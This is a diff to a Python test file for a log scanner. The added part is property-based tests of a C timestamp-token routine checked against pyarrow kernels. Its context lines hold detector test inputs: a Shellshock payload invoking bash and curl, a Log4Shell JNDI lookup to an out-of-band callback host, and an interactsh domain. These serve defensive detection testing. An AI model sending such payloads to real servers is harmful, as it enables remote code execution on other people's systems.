@@ -661,3 +661,57 @@ def test_referer_functions_refuse_what_is_not_a_list_of_bytes() -> None:
     found = _referer_exploits([b"() { :; }; /bin/bash -c 'curl x'", b"${jndi:ldap://x.oast.fun/a}",
                                b"http://abc.INTERACT.sh/", b"https://rentals.example/listings/5703"])
     assert found == ["shellshock_in_referer", "log4shell_in_referer", "interactsh_in_referer", None]
+
+
+# -- minute_tokens: time tokens keyed by their minute (ArrowScanner._minutes) ----------------------------------------
+
+_time_piece = st.sampled_from([b"01/Mar/2024:10:00:", b"01/Mar/2024:10:01:", b"02/Mar/2024:23:59:", b"00", b"59", b"60",
+                               b"61", b"62", b"99", b"0", b"x", b"\xff\x00", b" +0000", b"-0700", b"", b"ab"])
+
+
+@settings(max_examples=500, deadline=None)
+@given(st.one_of(
+    st.lists(st.one_of(st.none(), st.lists(_time_piece, max_size=4).map(b"".join)), max_size=40),
+    # (mostly one width: 20, a minute among three, any two bytes as seconds, now and then another length)
+    st.lists(st.one_of(st.none(), st.builds(lambda m, sec: b"01/Mar/2024:10:0" + m + b":" + sec,
+                                            st.sampled_from([b"0", b"1", b"9"]), st.binary(min_size=2, max_size=2)),
+                       st.sampled_from([b"01/Mar/2024:10:00:0", b"01/Mar/2024:10:00:000"])), max_size=60)),
+       st.one_of(st.just(20), st.integers(0, 30)), st.one_of(st.just(18), st.integers(-1, 30)), st.booleans())
+@example([b"01/Mar/2024:10:00:00", None, b"01/Mar/2024:10:00:59", b"01/Mar/2024:10:01:61"], 20, 18, True)
+def test_fuzz_minute_tokens_in_c_equal_the_pyarrow_kernels(tokens: list[bytes | None], width: int, s0: int,
+                                                           sorted_: bool) -> None:
+    """_cut.minute_tokens gives None unless every valid token is ``width`` long (and some row is valid, and the slice
+    two bytes of it); else the column binary_replace_slice makes, its distinct tokens and the distinct seconds
+    binary_slice finds (in order of first appearance, which the kernels' unique keeps too)."""
+    if sorted_:
+        tokens = sorted(tokens, key=lambda x: (x is None, x or b""))
+    col = pa.array(tokens, pa.large_binary())
+    validity, offsets, data = col.buffers()
+    got = _cut.minute_tokens(offsets, data if data is not None else b"", validity if col.null_count else None,
+                             len(col), width, s0, s0 + 2)
+    lengths = pc.min_max(pc.binary_length(col)).as_py()
+    if not (lengths["min"] == lengths["max"] == width) or s0 < 0 or s0 + 2 > width:
+        assert got is None
+        return
+    assert got is not None
+    offs, text, mins, secs = got
+    tm = pc.binary_replace_slice(col, s0, s0 + 2, b"00")
+    col2 = pa.Array.from_buffers(pa.large_binary(), len(col), [validity if col.null_count else None,
+                                                              pa.py_buffer(offs), pa.py_buffer(text)])
+    assert col2.to_pylist() == tm.to_pylist()
+    assert mins == pc.drop_null(pc.unique(tm)).to_pylist()
+    assert secs == pc.drop_null(pc.unique(pc.binary_slice(col, s0, s0 + 2))).to_pylist()
+
+
+def test_minute_tokens_refuse_short_buffers() -> None:
+    col = pa.array([b"0123", b"4567"], pa.large_binary())
+    validity, offsets, data = col.buffers()
+    with pytest.raises(ValueError, match="shorter"):
+        _cut.minute_tokens(offsets, data, None, 3, 4, 0, 2)
+    with pytest.raises(ValueError, match="shorter"):
+        _cut.minute_tokens(offsets, data, b"", 2, 4, 0, 2)
+    with pytest.raises(ValueError, match="out of range"):
+        _cut.minute_tokens(pa.array([0, 4, 99], pa.int64()).buffers()[1], data, None, 2, 4, 0, 2)
+    assert _cut.minute_tokens(offsets, data, None, 2, 4, 1, 3) == (
+        pa.array([0, 4, 8], pa.int64()).buffers()[1].to_pybytes(), b"00034007", [b"0003", b"4007"], [b"12", b"56"])
+    assert _cut.minute_tokens(offsets, data, b"\x00", 2, 4, 0, 2) is None  # (no valid row)
